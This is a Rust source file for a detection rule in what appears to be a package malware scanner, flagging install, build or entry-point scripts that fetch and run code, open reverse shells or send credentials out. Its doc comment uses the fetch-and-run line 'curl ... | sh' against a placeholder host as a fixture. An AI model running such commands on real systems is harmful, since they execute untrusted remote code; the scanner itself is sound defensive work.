//! ## What it detects
//!
//! A shell, batch or PowerShell script, a Makefile, a CMake or Meson file, cargo's `build.rs` or a notebook's shell lines that fetch and run something, hide PowerShell, hand a shell to a socket, send files of credentials or survive a restart; and that is installed as a command, run by a build from source or named by code of the package. A shell on a socket counts also where nothing names it.
//!
//! ## Why it is bad
//!
//! The attack lies in another language, one call away from Python.
//!
//! ## Innocent lookalikes
//!
//! Scripts of the developers: bootstrap, CI, containers. Nothing runs them from the package.
//!
//! ## Bad
//!
//! ```member x-1.data/scripts/x
//! #!/bin/sh
//! curl -s https://x.example.invalid/a | sh
//! ```
//!
//! ## Good
//!
//! ```member scripts/bootstrap.sh
//! #!/bin/sh
//! curl -s https://x.example.invalid/a | sh
//! ```

use fondaco_members::{ScriptAct, acts};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("script-attack"),
    title: "a script that does what an attack needs",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::CommandExecution),
    weight: 1.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for script in &package.members.scripts {
        let acts = acts(&script.text);
        if acts.is_empty() {
            continue;
        }
        let run = package.run_by(&script.member).or_else(|| package.made_by(script));
        let named = run.filter(|(_, call)| call.trigger.is_some());
        for (act, line) in acts {
            let trigger = match named {
                Some((_, call)) => call.trigger,
                None if script.builds => Some(Trigger::Install),
                None if script.installed => Some(Trigger::EntryPoint),
                None if act == ScriptAct::ReverseShell && !package.members.is_apart(&script.member) => {
                    Some(Trigger::Call)
                }
                None => continue,
            };
            let text = script.text.lines().nth(line as usize - 1).unwrap_or_default();
            let message = format!("{} that {}", script.language.name(), act.name());
            hits.text(&script.member, (line, text), trigger, message);
        }
    }
}
